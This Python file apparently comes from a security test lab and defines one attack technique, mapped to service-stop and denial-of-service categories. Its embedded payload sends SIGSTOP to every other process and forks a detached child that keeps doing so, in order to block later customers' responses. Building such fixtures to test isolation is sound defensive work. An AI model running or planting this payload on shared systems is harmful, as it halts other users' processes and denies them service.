"""Stops every other process, and leaves one that repeats this."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import MOMENT_S, WrongAnswers
from dayfly.lab.gauntlet.payloads import FAMILY
from dayfly.lab.gauntlet.technique import Technique

PLANT = (
    FAMILY
    + """
def stop():
    for pid in others():
        try: os.kill(pid, signal.SIGSTOP)
        except OSError: pass
stop()
if os.fork() == 0:
    os.setsid()
    mine = os.getpid()
    time.sleep(0.05)
    end = time.time() + 0.6
    while time.time() < end:
        stop()
    os._exit(0)
"""
)

TECHNIQUE = Technique(
    level="L2",
    attack=("T1489", "T1499"),
    family="D2",
    must_fail_to="prevent a later customer's response",
    plant=PLANT,
    evidence=WrongAnswers(takes=MOMENT_S),
    spoils=True,
    timeout_s=4,
    ends_window=True,
    process="may reach",
    finding="residue.signals",
)
